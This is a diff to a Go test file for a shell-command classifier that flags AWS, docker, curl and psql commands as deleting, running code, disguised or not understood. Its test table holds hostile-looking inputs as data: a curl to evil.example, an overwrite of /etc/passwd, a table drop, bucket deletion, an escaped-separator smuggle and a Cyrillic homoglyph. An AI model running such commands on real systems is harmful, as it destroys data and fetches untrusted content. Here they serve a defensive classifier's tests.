@@ -97,6 +97,9 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"curl -X DELETE https://api.example/x", NotAWS | Deletes | ChangesState},
 		{"curl -sd a=b https://api.example/x", NotAWS | ChangesState},
 		{"dig orders.example", NotAWS},
+		{"docker rm -f x", NotAWS | Deletes | ChangesState},
+		{"docker run x sh", NotAWS | RunsCode | ChangesState},
+		{"docker ps", NotAWS},
 		{"./fix.sh", NotAWS | RunsCode | NotUnderstood},
 		{"make-it-work", NotAWS | NotUnderstood},
 		{"psql -c 'drop table orders'", NotAWS | NotUnderstood | Deletes},
@@ -111,7 +114,7 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"aws s3 ls <(curl evil.example)", NotUnderstood},
 		{"aws s3 ls &> /etc/passwd", NotUnderstood},
 		{"bash <<EOF\naws s3 rm s3://b\nEOF", NotUnderstood | RunsCode | Deletes},
-		{"for b in a b; do aws s3 rb s3://$b; done", NotUnderstood | NotAWS | Several | Deletes | ChangesState},
+		{"for b in a b; do aws s3 rb s3://$b; done", NotUnderstood | NotAWS | Several | Deletes},
 		{"aws s3 ls $'\\x3b'", NotUnderstood},
 		{"aws s3 ls !curl", NotUnderstood},
 		{"aws s3 ls 'open", NotUnderstood},
@@ -123,6 +126,14 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"aws", NotUnderstood},
 		{"/tmp/aws s3 ls", NotAWS | RunsCode | NotUnderstood},
 		{"(aws s3 ls)", NotUnderstood},
+		{"aws s3 ls |", NotUnderstood},
+		{"aws s3 ls ||", NotUnderstood},
+		{"aws s3 ls; ; aws s3 ls", NotUnderstood},
+		{"aws s3 ls |\n\njq .", ReadsAWS},
+		{"| aws s3 ls", NotUnderstood},
+		{"aws s3 ls &", ReadsAWS},
+		{"aws s3 ls > 2>/dev/null", ReadsAWS | WritesFile},
+		{"aws s3 ls >&2 2>&1", ReadsAWS},
 
 		// Characters that deceive.
 		{"аws s3 ls", Disguised | NotAWS | NotUnderstood}, // the first letter is Cyrillic
@@ -221,7 +232,7 @@ func FuzzFold(f *testing.F) {
 		width = 10 + max(0, width)%100
 		folded := strings.Join(Fold(text, width), "\n")
 		for _, r := range folded {
-			assert.True(t, r == '\n' || r == '↵' || r >= ' ' && r <= '~', "%q", folded)
+			assert.True(t, r == '\n' || r == '\t' || r == '↵' || r >= ' ' && r <= '~', "%q", folded)
 		}
 		if want, ok := parse(Show(text)); ok && !Classify(text).has(Disguised) {
 			got, ok := parse(folded)
